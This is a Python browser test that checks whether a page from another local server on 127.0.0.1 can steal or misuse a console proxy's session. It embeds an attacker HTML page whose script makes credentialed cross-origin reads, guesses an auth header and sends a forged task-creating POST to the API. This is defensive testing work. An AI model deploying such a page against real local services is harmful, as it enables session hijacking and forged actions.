"""Another origin on this machine cannot take or use the console's session (issue 23).

The operator opens `dynacron console`'s link, then, in the same tab, a page of
another server on 127.0.0.1 (any local process may run one). That page loads
images from its own server and from the proxy, and tries to read and write the
API. With a session cookie, the browser handed it to the other server (cookies
are not kept apart by port) and a replay listed tasks; with the secret in a
header that only the console's scripts add, nothing it received opens anything.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, expect

from dynacron.console.proxy import ConsoleProxy
from tests.browser.harness import ConsoleServer, unique, viewer_page
from tests.support import wait_until

pytestmark = [pytest.mark.system, pytest.mark.browser]

ATTACKER_PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Cute cats</title></head><body>
<img alt="" src="/pixel.gif">
<img alt="" src="{proxy}/tasks">
<script>
const proxy = "{proxy}";
(async () => {{
  const results = {{}};
  try {{
    const answer = await fetch(proxy + "/tasks", {{ credentials: "include" }});
    results.read = await answer.text();
  }} catch (error) {{
    results.read = "blocked";
  }}
  try {{
    const guess = {{ "X-Dynacron-Console": "guess" }};
    const answer = await fetch(proxy + "/tasks", {{ headers: guess }});
    results.with_header = answer.status;
  }} catch (error) {{
    results.with_header = "blocked";
  }}
  try {{
    await fetch(proxy + "/tasks", {{
      method: "POST", mode: "no-cors", credentials: "include",
      body: JSON.stringify({{
        name: "{planted}", rate: "1 hour", handler_url: "http://127.0.0.1:9/x",
      }}),
    }});
    results.write = "sent";
  }} catch (error) {{
    results.write = "blocked";
  }}
  await fetch("/report", {{ method: "POST", body: JSON.stringify(results) }});
}})();
</script></body></html>"""


@dataclass
class Arrived:
    path: str
    headers: list[tuple[str, str]]
    body: bytes


@dataclass
class AttackerSite:
    """A server of another local process on 127.0.0.1, recording all it receives."""

    page: str = ""
    arrived: list[Arrived] = field(default_factory=list)
    _server: ThreadingHTTPServer | None = None

    @property
    def origin(self) -> str:
        assert self._server is not None
        return f"http://127.0.0.1:{self._server.server_port}"

    def report(self) -> dict[str, Any] | None:
        for request in self.arrived:
            if request.path == "/report":
                reported: dict[str, Any] = json.loads(request.body)
                return reported
        return None

    def start(self) -> AttackerSite:
        site = self

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else b""
                site.arrived.append(Arrived(self.path, list(self.headers.items()), body))
                page = site.page.encode() if self.path == "/" else b""
                self.send_response(200 if page else 204)
                if page:
                    self.send_header("Content-Type", "text/html; charset=utf-8")
                    self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            do_GET = do_POST = _record

            def log_message(self, *args: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def stop(self) -> None:
        if self._server is not None:
            self._server.shutdown()
            self._server.server_close()


@pytest.fixture
def attacker() -> Iterator[AttackerSite]:
    site = AttackerSite().start()
    yield site
    site.stop()


def test_a_page_on_another_loopback_port_can_neither_take_nor_use_the_session(
    browser: Browser, console: ConsoleServer, proxied: ConsoleProxy, attacker: AttackerSite
) -> None:
    task = console.register(name=unique("operators"))
    planted = unique("planted")
    attacker.page = ATTACKER_PAGE.format(proxy=proxied.origin, planted=planted)
    with viewer_page(browser, proxied.origin) as page:
        # Given the operator's console, opened from the printed link
        page.goto(proxied.login_url)
        expect(page.get_by_role("link", name=task["name"])).to_be_visible()
        assert "#" not in page.url  # the secret left the address bar

        # When the same tab goes to a page of another server on 127.0.0.1
        page.goto(attacker.origin + "/")
        assert wait_until(lambda: attacker.report() is not None, timeout=20)

        # Then whatever reached that server opens nothing when replayed
        # (as a plain client sends it: no browser's Origin or Sec-Fetch-* headers)
        browser_only = ("host", "origin", "content-length", "sec-fetch-")
        replays = [
            {n: v for n, v in request.headers if not n.lower().startswith(browser_only)}
            for request in attacker.arrived
        ]
        with httpx.Client(trust_env=False, timeout=10) as replayer:
            for headers in replays:
                answer = replayer.get(f"{proxied.origin}/tasks", headers=headers)
                assert answer.status_code == 401, (headers, answer.text)
        # and the secret never reached it, in a cookie, a referrer or anywhere else
        secret = proxied.login_url.partition("#session=")[2]
        assert secret
        for request in attacker.arrived:
            assert secret not in repr(request), request
        # The page could not read the API, nor send the header, nor write
        report = attacker.report()
        assert report == {"read": "blocked", "with_header": "blocked", "write": "sent"}
        assert planted not in [t["name"] for t in console.call("GET", "/tasks")["items"]]

        # And the operator's console, back in that tab, still lists the tasks
        page.goto(f"{proxied.origin}/console/tasks")
        expect(page.get_by_role("link", name=task["name"])).to_be_visible()
